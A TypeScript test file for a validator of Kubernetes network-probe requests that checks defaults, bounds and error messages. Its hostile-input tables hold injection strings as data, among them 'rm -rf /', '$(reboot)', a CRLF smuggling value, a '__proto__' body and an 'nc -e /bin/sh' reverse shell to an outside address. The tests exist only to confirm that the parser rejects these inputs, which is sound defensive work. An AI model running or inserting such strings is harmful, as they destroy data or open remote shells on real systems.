import { describe, expect, it } from 'vitest';
import { MAX_REF_LENGTH, PROBE_LIMITS, parseProbeRequest } from './probe';

const ping = (to: unknown, extra: Record<string, unknown> = {}) => ({
  kind: 'ping',
  from: { pod: 'web-1' },
  to,
  ...extra,
});
const errorOf = (body: unknown) => {
  const r = parseProbeRequest(body);
  if (r.ok) throw new Error(`accepted ${JSON.stringify(body)}`);
  return r.error;
};

describe('parseProbeRequest: good requests', () => {
  it('fills in the defaults of each kind and nothing of the others', () => {
    expect(parseProbeRequest(ping('web-4'))).toEqual({
      ok: true,
      request: { kind: 'ping', from: { pod: 'web-1' }, to: 'web-4', count: 3, timeoutMs: 2000, size: 56 },
    });
    expect(parseProbeRequest({ kind: 'tcp', from: { pod: 'web-1' }, to: '10.244.2.2', port: 8080 })).toEqual({
      ok: true,
      request: { kind: 'tcp', from: { pod: 'web-1' }, to: '10.244.2.2', port: 8080, timeoutMs: 2000 },
    });
    expect(parseProbeRequest(ping('web-4', { size: 1472 }))).toMatchObject({ ok: true, request: { size: 1472 } });
    expect(parseProbeRequest({ kind: 'traceroute', from: { node: true }, to: '10.244.2.2' })).toEqual({
      ok: true,
      request: { kind: 'traceroute', from: { node: true }, to: '10.244.2.2', maxHops: 15, timeoutMs: 2000 },
    });
    expect(
      parseProbeRequest({
        kind: 'route-get',
        from: { pod: 'team-a/api' },
        to: 'kube-system/coredns-5d78c9869d-x7k2p',
        timeoutMs: 100,
      }),
    ).toEqual({
      ok: true,
      request: {
        kind: 'route-get',
        from: { pod: 'team-a/api' },
        to: 'kube-system/coredns-5d78c9869d-x7k2p',
        timeoutMs: 100,
      },
    });
  });

  it('accepts the bounds and canonicalises default/NAME to NAME', () => {
    for (const count of [1, 10]) expect(parseProbeRequest(ping('10.244.2.3', { count })).ok).toBe(true);
    for (const timeoutMs of [100, 10_000]) expect(parseProbeRequest(ping('10.244.2.3', { timeoutMs })).ok).toBe(true);
    for (const maxHops of [1, 30])
      expect(parseProbeRequest({ kind: 'traceroute', from: { node: true }, to: 'web-3', maxHops }).ok).toBe(true);
    const r = parseProbeRequest({ kind: 'ping', from: { pod: 'default/web-1' }, to: 'default/web-4' });
    expect(r.ok && [r.request.from, r.request.to]).toEqual([{ pod: 'web-1' }, 'web-4']);
    // Pod names are DNS subdomains: dots are allowed (a StatefulSet's pod, a dotted name).
    expect(parseProbeRequest(ping('db.primary-0')).ok).toBe(true);
    expect(parseProbeRequest(ping('127.0.0.1')).ok).toBe(true);
  });
});

describe('parseProbeRequest: hostile and wrong requests are refused, saying what is allowed', () => {
  it.each([
    [
      '; rm -rf /',
      /to "; rm -rf \/" is neither an IPv4 address nor a pod: it contains ";"; give a pod .* or an IPv4 address/,
    ],
    ['$(reboot)', /contains "\$"/],
    ['10.0.0.1 && id', /"10.0.0.1 && id" is neither an IPv4 address nor a pod: it contains a space/],
    ['`id`', /contains "`"/],
    ['web-4\nHTTP/1.1 200 OK', /"web-4\\nHTTP\/1.1 200 OK" is neither .* it contains "\\n"/],
    ['web-4\r', /contains "\\r"/],
    ['web-4\u0000', /contains "\\u0000"/],
    ['|nc -e /bin/sh 1.2.3.4 9', /contains "\|"/],
    ['-f', /"-f": "-f" is not a Kubernetes pod name/],
    ['--help', /is not a Kubernetes pod name/],
    ['example.com.', /is not a Kubernetes pod name/],
    ['Web-4', /upper-case "W" \(Kubernetes names are lower case\)/],
    ['a/b/c', /has more than one "\/"/],
    ['team_a/api', /contains "_"/],
    ['/api', /namespace "" is not a Kubernetes namespace name/],
    ['', /^to is empty: give a pod/],
    [
      'x'.repeat(MAX_REF_LENGTH + 1),
      new RegExp(`^to is too long \\(${MAX_REF_LENGTH + 1} characters, at most ${MAX_REF_LENGTH}\\)$`),
    ],
    ['::1', /IPv6 is not supported yet/],
    ['fd00:10:244::2', /IPv6 is not supported yet/],
    ['fe80::1%eth0', /IPv6 is not supported yet/],
    ['300.1.1.1', /"300.1.1.1" is not an IPv4 address: four numbers 0-255/],
    ['10.244.1', /is not an IPv4 address/],
    ['010.244.1.2', /without leading zeros/],
    ['1.2.3.4.5', /is not an IPv4 address/],
    ['10.0.0.1:80', /contains ":"/],
    ['0.0.0.0', /0.0.0.0\/8/],
    ['224.0.0.1', /multicast/],
    ['255.255.255.255', /reserved or broadcast/],
  ])('to %j', (to, message) => {
    expect(errorOf(ping(to))).toMatch(message);
  });

  it.each([
    [{ pod: '$(reboot)' }, /from.pod "\$\(reboot\)" is not a pod reference: it contains "\$"/],
    [{ pod: '' }, /from.pod is empty/],
    [{ pod: 5 }, /from.pod must be a string, got 5 \(a number\)/],
    [{ pod: 'web-1', node: true }, /not both/],
    [{ node: false }, /from.node must be true, got false/],
    [{ node: 'true' }, /from.node must be true, got "true"/],
    [{}, /from must be \{"pod": .*\} or \{"node": true\}, got \{\}/],
    [{ pod: 'web-1', netns: '/proc/1/ns/net' }, /from has unknown field "netns"/],
    ['web-1', /from must be .*, got "web-1"/],
    [undefined, /from is required/],
  ])('from %j', (from, message) => {
    expect(errorOf({ kind: 'ping', from, to: 'web-4' })).toMatch(message);
  });

  it('numbers: out of range, negative, fractional, strings, huge', () => {
    const range = (f: string, lim: { min: number; max: number; default: number }) =>
      `${f} must be an integer from ${lim.min} to ${lim.max} (default ${lim.default})`;
    expect(errorOf(ping('web-4', { count: 1_000_000 }))).toBe(
      `${range('count', PROBE_LIMITS.count)}, got 1000000 (a number)`,
    );
    expect(errorOf(ping('web-4', { count: 0 }))).toMatch(/^count must be an integer from 1 to 10/);
    expect(errorOf(ping('web-4', { count: 2.5 }))).toMatch(/got 2.5/);
    expect(errorOf(ping('web-4', { count: '3' }))).toBe(`${range('count', PROBE_LIMITS.count)}, got "3"`);
    expect(errorOf(ping('web-4', { timeoutMs: -1 }))).toBe(
      `${range('timeoutMs', PROBE_LIMITS.timeoutMs)}, got -1 (a number)`,
    );
    expect(errorOf(ping('web-4', { timeoutMs: 99 }))).toMatch(/timeoutMs must be an integer from 100 to 10000/);
    expect(errorOf(ping('web-4', { timeoutMs: 1e308 }))).toMatch(/timeoutMs must be/);
    expect(errorOf(ping('web-4', { timeoutMs: null }))).toMatch(/timeoutMs must be .*, got null/);
    expect(errorOf({ kind: 'traceroute', from: { node: true }, to: 'web-3', maxHops: 31 })).toMatch(
      /maxHops must be an integer from 1 to 30 \(default 15\), got 31/,
    );
    // Both problems at once, both named.
    expect(errorOf(ping('web-4', { count: 11, timeoutMs: -5 }))).toMatch(
      /count must .*got 11.*; timeoutMs must .*got -5/,
    );
  });

  it('fields of another kind, unknown fields, unknown kinds, bodies that are not objects', () => {
    expect(errorOf({ kind: 'route-get', from: { node: true }, to: 'web-3', count: 3 })).toBe(
      'count applies to ping only, not route-get',
    );
    expect(errorOf(ping('web-4', { maxHops: 3 }))).toBe('maxHops applies to traceroute only, not ping');
    expect(errorOf(ping('web-4', { args: ['-f'] }))).toBe(
      'unknown field "args": allowed are kind, from, to, count, timeoutMs, maxHops, size, port',
    );
    expect(errorOf(ping('web-4', { port: 80 }))).toBe('port applies to tcp only, not ping');
    expect(errorOf(ping('web-4', { size: 9001 }))).toMatch(/size must be an integer from 16 to 9000/);
    expect(errorOf(JSON.parse('{"kind":"ping","from":{"node":true},"to":"web-4","__proto__":{"x":1}}'))).toMatch(
      /unknown field "__proto__"/,
    );
    expect(errorOf({ ...ping('web-4'), kind: 'nmap' })).toBe(
      'kind must be one of ping, traceroute, route-get, tcp, got "nmap"',
    );
    expect(errorOf({ ...ping('web-4'), kind: ['ping'] })).toMatch(/kind must be one of .*, got an array/);
    expect(errorOf({ from: { node: true }, to: 'web-4' })).toBe(
      'kind is required: one of ping, traceroute, route-get, tcp',
    );
    expect(errorOf({ kind: 'ping', from: { node: true } })).toMatch(/^to is required: a pod/);
    for (const to of [5, null, true, ['web-4'], { pod: 'web-4' }])
      expect(errorOf(ping(to))).toMatch(/^to must be a string: /);
    for (const body of [null, 'ping web-4', 42, [], undefined])
      expect(errorOf(body)).toMatch(/^the request body must be a JSON object such as \{"kind":"ping"/);
  });

  it('quotes hostile values escaped and shortened, so a message is one safe line', () => {
    const e = errorOf(ping(`a\n${'b'.repeat(500)}`));
    expect(e).not.toContain('\n');
    expect(e.length).toBeLessThan(400);
  });
});
